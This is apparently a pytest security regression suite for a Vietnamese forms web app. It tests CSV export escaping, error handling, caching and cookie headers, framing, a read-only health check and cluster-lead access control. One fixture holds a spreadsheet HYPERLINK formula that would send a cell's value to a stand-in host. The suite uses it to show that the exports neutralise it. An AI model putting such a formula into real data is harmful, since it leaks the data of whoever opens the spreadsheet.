"""Issue 12, the findings of the attack that are not about reviewers' SQL, sign-in or uploads: spreadsheets that run
formulas, addresses and bodies that gave a 500, a health check blind to a read-only disk, pages kept in caches, cookies
sent in clear, cluster leads reading other clusters, and a certificate made by a GET."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from support.data import OPEN_DAY, SELF, forms_sql, register
from support.web import ProductClient, complete_self_assessment, downloaded, post_answers, start_session

from forms_app.adapters.wsgi import create_wsgi

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&B2,"Xem")'


@pytest.fixture
def formula_submitted(app, toan):
    """TOAN's self-assessment submitted with a free-text answer that a spreadsheet would run as a formula."""
    answers = complete_self_assessment() | {"tu_nhan_xet": FORMULA}
    assert post_answers(toan, answers, "submit").status_code == 303
    return app


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_a_formula_typed_by_a_unit_is_written_as_text_in_every_csv(formula_submitted, signed_in, tmp_path):
    from forms_app.adapters.cli import cli

    archive = zipfile.ZipFile(io.BytesIO(downloaded(signed_in("vanphong"), "/exports/2022.zip").data))
    cells = [cell for name in archive.namelist() for cell in _cells(archive.read(name))]
    out = tmp_path / "ket-qua.csv"
    result = CliRunner().invoke(cli, ["export", "--year", "2022", "--format", "csv", "--out", str(out),
                                      "--data-dir", str(formula_submitted.config["DATA_DIR"])])
    assert result.exit_code == 0, result.output
    cells += [cell for path in tmp_path.glob("*.csv") for cell in _cells(path.read_bytes())]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_a_spreadsheet_cell_keeps_numbers_and_plain_text():
    from exports.tables import spreadsheet_text

    assert [spreadsheet_text(v) for v in (-3, 2.5, "Đoàn khoa Toán", "+84 912", "-1+1", "@SUM(A1)", "\tx")] == [
        -3, 2.5, "Đoàn khoa Toán", "'+84 912", "'-1+1", "'@SUM(A1)", "'\tx"]


@pytest.mark.parametrize("url", [
    "/forms/tu-danh-gia-3-chu-dong/99999999999999999999",
    "/forms/tu-danh-gia-3-chu-dong/2022/history/99999999999999999999999",
    "/units/TOAN/forms/tu-danh-gia-3-chu-dong/99999999999999999999/result",
    "/review/TOAN/tu-danh-gia-3-chu-dong/99999999999999999999",
    "/exports/99999999999999999999.xlsx",
])
def test_a_huge_number_in_an_address_is_a_404_not_a_500(app, signed_in, url):
    for user in ("toan", "vanphong"):
        assert signed_in(user).get(url).status_code in (403, 404)


def test_a_huge_page_number_is_an_empty_page(app, signed_in):
    response = signed_in("vanphong").get("/?page=99999999999999999999")
    assert response.status_code == 200


@pytest.mark.parametrize("url", ["/login", f"/forms/{SELF}/2022", "/logout"])
def test_a_multipart_part_without_a_name_is_refused_with_a_400(app, signed_in, url):
    body = (b"--B\r\nContent-Disposition: form-data\r\n\r\nvalue\r\n"
            b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--B--\r\n")
    for client in (app.test_client(), signed_in("toan")):
        assert client.post(url, data=body, content_type="multipart/form-data; boundary=B").status_code == 400


def test_signed_in_pages_are_not_kept_by_caches_and_public_ones_may_be(app, signed_in):
    toan = signed_in("toan")
    for url in ("/", f"/forms/{SELF}/2022", "/account/password"):
        assert toan.get(url).headers.get("Cache-Control") == "no-store", url
    assert app.test_client().get("/login").headers.get("Cache-Control") != "no-store"
    assert toan.get("/static/style.css").headers.get("Cache-Control") != "no-store"


def test_over_https_pages_ask_for_https_and_every_cookie_is_secure(app):
    client = app.test_client()
    page = client.get("/login?lang=en", base_url="https://forms.example.org")
    assert page.headers["Strict-Transport-Security"].startswith("max-age=")
    cookies = page.headers.getlist("Set-Cookie")
    assert cookies and all("Secure" in cookie for cookie in cookies), cookies
    plain = app.test_client().get("/login?lang=en")
    assert "Strict-Transport-Security" not in plain.headers
    assert not [c for c in plain.headers.getlist("Set-Cookie") if "Secure" in c]


def test_pages_cannot_be_framed(app):
    headers = app.test_client().get("/login").headers
    assert headers["X-Frame-Options"] == "DENY" and "frame-ancestors 'none'" in headers["Content-Security-Policy"]


HEALTH = textwrap.dedent("""
    import os, sys
    from pathlib import Path
    from forms_app.adapters.web import create_app
    from forms_app.data import connection
    data_dir = Path(sys.argv[1])
    client = create_app({"DATA_DIR": data_dir}).test_client()
    kept = connection.open_forms(data_dir), connection.open_accounts(data_dir)  # as the server keeps them (wsgi.py)
    before = client.get("/healthz").status_code
    for path in [data_dir, *data_dir.iterdir()]:
        os.chmod(path, 0o555 if path.is_dir() else 0o444)
    print(before, client.get("/healthz").status_code, client.get("/healthz").get_json()["status"])
""")


@pytest.mark.skipif(os.geteuid() != 0, reason="runs the check as another user, which needs root")
def test_health_check_says_so_when_the_data_directory_cannot_be_written(app):
    # A folder another user can reach (pytest's own are private to root), with the data directory owned by nobody.
    outside = Path(tempfile.mkdtemp(prefix="forms-app-readonly-"))
    try:
        outside.chmod(0o755)
        data_dir = Path(shutil.copytree(app.config["DATA_DIR"], outside / "data"))
        subprocess.run(["chown", "-R", "nobody:nogroup", str(data_dir)], check=True)
        result = subprocess.run(["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", sys.executable,
                                 "-c", HEALTH, str(data_dir)], capture_output=True, text=True, cwd="/")
    finally:
        shutil.rmtree(outside)
    assert result.stdout.split() == ["200", "503", "read-only"], result.stderr[-2000:]


# Cluster leads: the lead of "Cụm 1" (TOAN, LY) reads nothing of VAN (Cụm 2), anywhere.

@pytest.fixture
def lead(app, signed_in):
    from forms_app.data import connection
    from forms_app.rules import accounts, passwords

    register(app, "VAN")
    accounts_db = connection.open_accounts(app.config["DATA_DIR"])
    try:
        accounts.add_user(accounts_db, "cum1", "mat-khau-cum-mot", "cluster_lead", clusters=["Cụm 1 – Khoa học Tự nhiên"],
                          hasher=passwords.CHEAP_HASHER)
    finally:
        accounts_db.close()
    van = app.test_client()
    start_session(app, van, "van")
    assert post_answers(van, complete_self_assessment(), "submit").status_code == 303
    return signed_in("cum1")


def test_a_cluster_lead_is_refused_other_clusters_everywhere(app, lead):
    token = forms_sql(app, "SELECT u.token FROM uploads u WHERE u.unit_code = 'VAN' LIMIT 1")
    urls = [f"/units/VAN/forms/{SELF}/2022/result", f"/units/VAN/forms/{SELF}/2022/history",
            f"/units/VAN/forms/{SELF}/2022/history/1", f"/review/VAN/{SELF}/2022",
            f"/units/VAN/forms/{SELF}/2022/certificate.pdf", "/exports/2022.xlsx", "/exports/2022.zip",
            "/exports/2022/bao-cao.pdf"] + ([f"/files/{token[0][0]}"] if token else [])
    for url in urls:
        assert lead.get(url).status_code == 403, url
    assert lead.get(f"/units/TOAN/forms/{SELF}/2022/history").status_code == 200  # its own cluster
    assert "VAN" not in lead.get("/").get_data(as_text=True)


@pytest.mark.parametrize("url", ["/data/", "/data/forms/tong_quan", "/data/forms.json?sql=select+*+from+units",
                                 "/data/forms/units.csv", "/data/-/bieu-do"])
def test_a_cluster_lead_gets_no_datasette_which_holds_every_unit(app, lead, url):

    product = create_wsgi(app.config["DATA_DIR"], {"TESTING": True, "NOW": OPEN_DAY})
    for name in ("cum1", "vanphong"):
        client = ProductClient(product)
        start_session(product.flask_app, client, name)
        response = client.get(url)
        assert response.status_code == (403 if name == "cum1" else 200), (name, url)
        assert b"VAN" not in response.data if name == "cum1" else True


def test_a_recognition_recorded_on_the_web_issues_the_certificate_the_unit_then_downloads(app, signed_in):
    register(app, "TOAN")
    toan = signed_in("toan")
    assert post_answers(toan, complete_self_assessment(), "submit").status_code == 303
    reviewer = signed_in("vanphong")
    page = reviewer.get(f"/review/TOAN/{SELF}/2022").get_data(as_text=True)
    token = page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    decided = reviewer.post(f"/review/TOAN/{SELF}/2022/decision", data={
        "csrf_token": token, "decision": "recognised", "decision_no": "12-QĐ/ĐTN",
        "decided_on": OPEN_DAY.date().isoformat(), "reason": "Đơn vị tiêu biểu", "step": "confirm"})
    assert decided.status_code == 303
    assert forms_sql(app, "SELECT COUNT(*) FROM certificates WHERE unit_code = 'TOAN'") == [(1,)]
    assert toan.get(f"/forms/{SELF}/2022/certificate.pdf").data.startswith(b"%PDF")


def test_reviewers_queries_never_take_every_thread_units_need(app):
    product = create_wsgi(app.config["DATA_DIR"], {"TESTING": True, "NOW": OPEN_DAY, "REVIEWER_WAIT_S": 0.2})
    reviewer, unit = ProductClient(product), ProductClient(product)
    start_session(product.flask_app, reviewer, "vanphong")
    start_session(product.flask_app, unit, "toan")
    assert reviewer.get("/data/forms/units").status_code == 200
    slots = product.reviewer_slots
    assert slots.acquire(blocking=False) and slots.acquire(blocking=False)  # both free again after that request
    try:
        busy = reviewer.get("/data/forms/units")  # every reviewer slot taken, as by two long queries
        assert busy.status_code == 503 and "Hệ thống đang bận" in busy.get_data(as_text=True)
        assert unit.get("/").status_code == 200  # a unit's page is served all the same
    finally:
        slots.release()
        slots.release()
    assert reviewer.get("/data/forms/units").status_code == 200
